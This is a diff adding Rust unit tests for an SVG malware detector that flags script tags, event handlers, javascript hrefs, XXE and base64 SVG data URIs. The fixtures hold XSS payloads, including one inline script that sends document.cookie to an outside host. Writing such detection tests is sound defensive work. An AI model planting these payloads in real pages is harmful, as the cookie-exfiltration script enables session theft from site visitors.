+        let types: Vec<&str> = findings.iter().map(|f| f.finding_type.as_str()).collect();
+        assert_eq!(types, ["svg_xxe", "svg_event_handler", "svg_javascript_href"]);
+        assert_eq!(findings[0].value["entity"], "leak");
+        assert_eq!(findings[1].value["element"], "animate");
+        assert_eq!(findings[1].value["attribute"], "onbegin");
+        assert_eq!(findings[2].value["attribute"], "xlink:href");
+    }
+
+    #[test]
+    fn test_strict_parse_ignores_comments_and_falls_back() {
+        let detector = SvgDetector::new();
+        let dir = tempfile::tempdir().unwrap();
+
+        let commented = dir.path().join("commented.svg");
+        std::fs::write(
+            &commented,
+            "<svg><!-- <script>alert(1)</script> --><rect width=\"1\"/></svg>",
+        )
+        .unwrap();
+        let has_script = |findings: &[Finding]| {
+            findings.iter().any(|f| f.finding_type == "svg_script_tag")
+        };
+        assert!(has_script(&detector.analyze_file(&commented, DEFAULT_MAX_FILE_BYTES, false)));
+        assert!(!has_script(&detector.analyze_file(&commented, DEFAULT_MAX_FILE_BYTES, true)));
+
+        // Not well-formed: the regex pass still runs
+        let broken = dir.path().join("broken.svg");
+        let unbalanced = "<svg><script>alert(1)</script></g>";
+        std::fs::write(&broken, unbalanced).unwrap();
+        assert!(detector.detect_structural(&broken, unbalanced).is_none());
+        assert!(has_script(&detector.analyze_file(&broken, DEFAULT_MAX_FILE_BYTES, true)));
+    }
+
+    #[test]
+    fn test_inline_svg_in_html() {
+        let detector = SvgDetector::new();
+        let dir = tempfile::tempdir().unwrap();
+        let page = dir.path().join("index.html");
+        std::fs::write(
+            &page,
+            "<html><body><p>logo</p>\n<svg width=\"10\"><script>fetch('//x.ru/'+document.cookie)\
+             </script></svg></body></html>",
+        )
+        .unwrap();
+
+        let findings = detector.analyze_file(&page, DEFAULT_MAX_FILE_BYTES, false);
+        let script = findings
+            .iter()
+            .find(|f| f.finding_type == "svg_script_tag")
+            .expect("inline SVG script");
+        assert_eq!(script.location, page.display().to_string());
+        assert_eq!(script.metadata["embedded_svg"]["kind"], "inline");
+        assert_eq!(script.metadata["embedded_svg"]["offset"], 24);
+
+        // Pages without SVG still get no SVG findings
+        std::fs::write(&page, "<html><script>init()</script></html>").unwrap();
+        assert!(detector.analyze_file(&page, DEFAULT_MAX_FILE_BYTES, false).is_empty());
+    }
+
+    #[test]
+    fn test_base64_svg_data_uri_is_decoded() {
+        let detector = SvgDetector::new();
+        let dir = tempfile::tempdir().unwrap();
+        let svg = r#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>"#;
+        let payload = DATA_URI_BASE64.encode(svg);
+        let page = dir.path().join("ad.htm");
+        std::fs::write(
+            &page,
+            format!(r#"<img src="data:image/svg+xml;charset=utf-8;base64,{}">"#, payload),
+        )
+        .unwrap();
+
+        let findings = detector.analyze_file(&page, DEFAULT_MAX_FILE_BYTES, false);
+        let handler = findings
+            .iter()
+            .find(|f| f.finding_type == "svg_event_handler")
+            .expect("decoded onload handler");
+        assert_eq!(handler.value["handler"], "onload");
+        assert_eq!(handler.location, page.display().to_string());
+        assert_eq!(handler.metadata["embedded_svg"]["kind"], "base64_data_uri");
+        assert_eq!(handler.metadata["embedded_svg"]["offset"], 10);
+    }
 }